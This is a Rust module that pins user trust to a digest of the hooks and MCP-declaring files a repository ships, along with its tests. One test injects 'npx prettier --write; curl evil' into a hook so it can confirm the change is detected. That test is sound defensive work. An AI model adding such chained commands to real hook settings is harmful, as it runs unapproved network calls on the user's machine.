//! Trust in a repository's files that would run something (issue #43, ADR-116).
//!
//! A cloned repository can ship files that make an agent run code: Claude Code's hooks in
//! `.claude/settings.json` (and `.claude/settings.local.json`), and the fabric's own project
//! specialists (`<workspace>/specialists/*.md`) declaring MCP servers. None of them runs until
//! the user trusts that repository's version of them: `fabric trust PATH` (or yes at the
//! terminal's question) records the repository's root with the digest of exactly what would
//! run; any change to it is a new version, untrusted until trusted again.
//!
//! What a repository says to the model (`AGENTS.md`) runs nothing and needs no trust.

use serde::{Deserialize, Serialize};
use serde_json::Value;
use sha2::{Digest, Sha256};
use std::fs;
use std::path::{Path, PathBuf};

use crate::error::ConfigError;

/// The project's Claude Code settings files whose hooks run commands, relative to its root.
pub const HOOK_FILES: [&str; 2] = [".claude/settings.json", ".claude/settings.local.json"];

/// One thing in a repository that would run: a file, and in words what it runs.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct TrustItem {
    /// The file, relative to the repository's root.
    pub file: String,
    /// What it would run, one line each (`PreToolUse (Write|Edit): ./fmt.sh`), as written:
    /// hostile text, to be made visible before it reaches a terminal.
    pub runs: Vec<String>,
    /// The SHA-256 (hex) of what of the file counts: the `hooks` value of a settings file
    /// (as canonical JSON, so other settings may change freely), a specialist file's bytes.
    pub sha256: String,
}

/// Everything in one repository that would run, and its digest.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Inventory {
    /// The repository's root (absolute).
    pub root: PathBuf,
    /// What would run, by file.
    pub items: Vec<TrustItem>,
    /// The SHA-256 (hex) over every item: the version trust is pinned to.
    pub digest: String,
}

impl Inventory {
    /// Whether the repository ships nothing that would run.
    pub fn is_empty(&self) -> bool {
        self.items.is_empty()
    }
}

/// The repository `path` is in: the nearest directory at or above it holding `.git`,
/// else `path` itself; absolute, links resolved where it exists.
pub fn repository_root(path: &Path) -> PathBuf {
    let path = fs::canonicalize(path)
        .or_else(|_| std::path::absolute(path))
        .unwrap_or_else(|_| path.to_path_buf());
    path.ancestors()
        .find(|dir| fs::symlink_metadata(dir.join(".git")).is_ok())
        .unwrap_or(&path)
        .to_path_buf()
}

/// What `root` ships that would run: the hooks of its Claude Code settings files, and the
/// project specialist files in `specialist_files` (those declaring MCP servers) that lie
/// inside it. A settings file that is not JSON is an item too (it would be refused when
/// read, but a change to it must not pass as trusted).
pub fn inventory(root: &Path, specialist_files: &[PathBuf]) -> Inventory {
    let root = repository_root(root);
    let mut items = Vec::new();
    for name in HOOK_FILES {
        let Ok(bytes) = read_regular(&root.join(name)) else {
            continue;
        };
        match serde_json::from_slice::<Value>(&bytes) {
            Ok(settings) => {
                let Some(hooks) = settings.get("hooks").filter(|h| !is_empty(h)) else {
                    continue;
                };
                items.push(TrustItem {
                    file: name.to_owned(),
                    runs: hook_lines(hooks),
                    sha256: sha256_hex(hooks.to_string().as_bytes()),
                });
            }
            Err(e) => items.push(TrustItem {
                file: name.to_owned(),
                runs: vec![format!("(not valid JSON: {e})")],
                sha256: sha256_hex(&bytes),
            }),
        }
    }
    // Resolved as the root is, so a path through a link is not left out of the inventory.
    let mut specialists: Vec<PathBuf> = specialist_files
        .iter()
        .map(|f| fs::canonicalize(f).unwrap_or_else(|_| f.clone()))
        .filter(|f| f.starts_with(&root))
        .collect();
    specialists.sort();
    specialists.dedup();
    for file in &specialists {
        let Ok(bytes) = read_regular(file) else {
            continue;
        };
        items.push(TrustItem {
            file: relative(&root, file),
            runs: vec!["MCP servers it declares (mcp_servers)".to_owned()],
            sha256: sha256_hex(&bytes),
        });
    }
    let digest = sha256_hex(serde_json::to_string(&items).unwrap_or_default().as_bytes());
    Inventory {
        root,
        items,
        digest,
    }
}

/// Whether the user trusts a repository's version of what it would run.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Trust {
    /// It ships nothing that would run.
    NothingToTrust,
    /// Trusted, this version.
    Trusted,
    /// Never trusted.
    Untrusted,
    /// Trusted once, and what would run has changed since.
    Changed {
        /// When the earlier version was trusted.
        trusted_at: String,
    },
}

impl Trust {
    /// Whether what the repository ships may run.
    pub fn allows(&self) -> bool {
        matches!(self, Self::NothingToTrust | Self::Trusted)
    }
}

/// One trusted repository.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct TrustEntry {
    /// Its root.
    pub path: PathBuf,
    /// The [`Inventory::digest`] trusted.
    pub digest: String,
    /// When (RFC 3339, UTC).
    pub trusted_at: String,
    /// The files it covered, for `fabric trust --list`.
    #[serde(default)]
    pub files: Vec<String>,
}

/// The user's trusted repositories: `trusted.json` in the fabric's configuration directory.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct TrustStore {
    path: PathBuf,
    entries: Vec<TrustEntry>,
}

#[derive(Serialize, Deserialize)]
struct TrustFile {
    version: u32,
    projects: Vec<TrustEntry>,
}

impl TrustStore {
    /// The store at `path`; empty when the file does not exist yet.
    pub fn load(path: &Path) -> Result<Self, ConfigError> {
        let error = |detail: String| ConfigError::Trust {
            path: path.to_path_buf(),
            detail,
        };
        let entries = match fs::read(path) {
            Ok(bytes) => {
                serde_json::from_slice::<TrustFile>(&bytes)
                    .map_err(|e| {
                        error(format!(
                            "{e}; fix it, or delete it and trust your repositories again"
                        ))
                    })?
                    .projects
            }
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => Vec::new(),
            Err(e) => return Err(error(e.to_string())),
        };
        Ok(Self {
            path: path.to_path_buf(),
            entries,
        })
    }

    /// The trusted repositories, in the order they were trusted.
    pub fn entries(&self) -> &[TrustEntry] {
        &self.entries
    }

    /// Whether `inventory`'s repository is trusted in this version.
    pub fn status(&self, inventory: &Inventory) -> Trust {
        if inventory.is_empty() {
            return Trust::NothingToTrust;
        }
        match self.entries.iter().find(|e| e.path == inventory.root) {
            Some(e) if e.digest == inventory.digest => Trust::Trusted,
            Some(e) => Trust::Changed {
                trusted_at: e.trusted_at.clone(),
            },
            None => Trust::Untrusted,
        }
    }

    /// Trusts `inventory`'s version of its repository, replacing an earlier one.
    pub fn trust(&mut self, inventory: &Inventory, now: &str) {
        self.entries.retain(|e| e.path != inventory.root);
        self.entries.push(TrustEntry {
            path: inventory.root.clone(),
            digest: inventory.digest.clone(),
            trusted_at: now.to_owned(),
            files: inventory.items.iter().map(|i| i.file.clone()).collect(),
        });
    }

    /// Forgets the repository `root`; whether it was trusted.
    pub fn revoke(&mut self, root: &Path) -> bool {
        let before = self.entries.len();
        self.entries.retain(|e| e.path != root);
        self.entries.len() != before
    }

    /// Writes the store: a new file in its place (readable by the user only), so a crash
    /// leaves the old one or the new one, never half of one.
    pub fn save(&self) -> Result<(), ConfigError> {
        let error = |detail: String| ConfigError::Trust {
            path: self.path.clone(),
            detail,
        };
        let file = TrustFile {
            version: 1,
            projects: self.entries.clone(),
        };
        let text = serde_json::to_string_pretty(&file).map_err(|e| error(e.to_string()))?;
        if let Some(dir) = self.path.parent() {
            fs::create_dir_all(dir).map_err(|e| error(e.to_string()))?;
        }
        let temp = self.path.with_extension("json.tmp");
        write_private(&temp, text.as_bytes()).map_err(|e| error(e.to_string()))?;
        fs::rename(&temp, &self.path).map_err(|e| error(e.to_string()))
    }
}

fn write_private(path: &Path, bytes: &[u8]) -> std::io::Result<()> {
    use std::io::Write;
    use std::os::unix::fs::OpenOptionsExt;
    let mut file = fs::OpenOptions::new()
        .write(true)
        .create(true)
        .truncate(true)
        .mode(0o600)
        .open(path)?;
    file.write_all(bytes)?;
    file.sync_all()
}

/// A regular file's bytes; a link is not followed (it could point anywhere).
fn read_regular(file: &Path) -> std::io::Result<Vec<u8>> {
    let meta = fs::symlink_metadata(file)?;
    if !meta.is_file() {
        return Err(std::io::Error::other("not a regular file"));
    }
    fs::read(file)
}

fn is_empty(value: &Value) -> bool {
    match value {
        Value::Null => true,
        Value::Object(map) => map.is_empty(),
        Value::Array(list) => list.is_empty(),
        _ => false,
    }
}

/// `EVENT (matcher): command`, one per command hook, from a `hooks` value as Claude Code's
/// settings write it; anything else shown as its JSON.
fn hook_lines(hooks: &Value) -> Vec<String> {
    let Some(events) = hooks.as_object() else {
        return vec![hooks.to_string()];
    };
    let mut lines = Vec::new();
    for (event, groups) in events {
        for group in groups.as_array().into_iter().flatten() {
            let matcher = group.get("matcher").and_then(Value::as_str).unwrap_or("");
            let shown = if matcher.is_empty() {
                event.clone()
            } else {
                format!("{event} ({matcher})")
            };
            for hook in group
                .get("hooks")
                .and_then(Value::as_array)
                .into_iter()
                .flatten()
            {
                match hook.get("command").and_then(Value::as_str) {
                    Some(command) => lines.push(format!("{shown}: {command}")),
                    None => lines.push(format!("{shown}: {hook}")),
                }
            }
        }
    }
    lines
}

fn relative(root: &Path, file: &Path) -> String {
    file.strip_prefix(root)
        .unwrap_or(file)
        .to_string_lossy()
        .into_owned()
}

fn sha256_hex(bytes: &[u8]) -> String {
    Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;

    fn repo() -> tempfile::TempDir {
        let dir = tempfile::tempdir().unwrap();
        fs::create_dir_all(dir.path().join(".git")).unwrap();
        fs::create_dir_all(dir.path().join(".claude")).unwrap();
        dir
    }

    fn settings(dir: &Path, text: &str) {
        fs::write(dir.join(".claude/settings.json"), text).unwrap();
    }

    const HOOKS: &str = r#"{"permissions": {"allow": ["Bash(npm test)"]}, "hooks": {"PostToolUse": [{"matcher": "Write|Edit", "hooks": [{"type": "command", "command": "npx prettier --write", "timeout": 30}]}]}}"#;

    #[test]
    fn a_repository_with_hooks_is_untrusted_until_trusted_and_again_when_they_change() {
        let dir = repo();
        settings(dir.path(), HOOKS);
        let store_path = dir.path().join("state/trusted.json");
        let mut store = TrustStore::load(&store_path).unwrap();
        let inv = inventory(&dir.path().join("src-missing/.."), &[]);
        assert_eq!(
            inv.items[0].runs,
            ["PostToolUse (Write|Edit): npx prettier --write"]
        );
        assert_eq!(store.status(&inv), Trust::Untrusted);
        store.trust(&inv, "2026-12-06T13:00:00Z");
        store.save().unwrap();
        let store = TrustStore::load(&store_path).unwrap();
        assert_eq!(store.status(&inventory(dir.path(), &[])), Trust::Trusted);
        // Other settings may change; the hooks may not.
        settings(dir.path(), &HOOKS.replace("npm test", "npm run lint"));
        assert_eq!(store.status(&inventory(dir.path(), &[])), Trust::Trusted);
        settings(
            dir.path(),
            &HOOKS.replace("prettier --write", "prettier --write; curl evil"),
        );
        assert!(matches!(
            store.status(&inventory(dir.path(), &[])),
            Trust::Changed { .. }
        ));
        use std::os::unix::fs::PermissionsExt;
        let mode = fs::metadata(&store_path).unwrap().permissions().mode();
        assert_eq!(mode & 0o777, 0o600);
    }

    #[test]
    fn nothing_that_runs_needs_no_trust_and_revoking_forgets() {
        let dir = repo();
        settings(dir.path(), r#"{"permissions": {}}"#);
        fs::write(dir.path().join("AGENTS.md"), "rules").unwrap();
        let inv = inventory(dir.path(), &[]);
        let mut store = TrustStore::default();
        assert_eq!(store.status(&inv), Trust::NothingToTrust);
        let spec = dir.path().join(".fabric/specialists/x.md");
        fs::create_dir_all(spec.parent().unwrap()).unwrap();
        fs::write(&spec, "---\nmcp_servers: []\n---\n").unwrap();
        let inv = inventory(dir.path(), std::slice::from_ref(&spec));
        assert_eq!(inv.items[0].file, ".fabric/specialists/x.md");
        store.trust(&inv, "now");
        assert!(store.status(&inv).allows());
        assert!(store.revoke(&inv.root));
        assert_eq!(store.status(&inv), Trust::Untrusted);
    }

    #[test]
    fn issue_43_a_specialist_reached_through_a_link_is_in_the_inventory() {
        let dir = repo();
        let spec = dir.path().join(".fabric/specialists/x.md");
        fs::create_dir_all(spec.parent().unwrap()).unwrap();
        fs::write(&spec, "---\nmcp_servers: []\n---\n").unwrap();
        let outside = tempfile::tempdir().unwrap();
        let link = outside.path().join("link");
        std::os::unix::fs::symlink(dir.path(), &link).unwrap();
        let inv = inventory(&link, &[link.join(".fabric/specialists/x.md")]);
        assert_eq!(inv.items.len(), 1, "{inv:?}");
        assert_eq!(inv.items[0].file, ".fabric/specialists/x.md");
    }

    #[test]
    fn a_broken_settings_file_still_counts_and_a_broken_store_is_named() {
        let dir = repo();
        settings(dir.path(), "{ not json");
        let inv = inventory(dir.path(), &[]);
        assert!(inv.items[0].runs[0].starts_with("(not valid JSON"));
        let store_path = dir.path().join("trusted.json");
        fs::write(&store_path, "[]").unwrap();
        let err = TrustStore::load(&store_path).unwrap_err().to_string();
        assert!(
            err.contains("trusted.json") && err.contains("delete it"),
            "{err}"
        );
    }
}
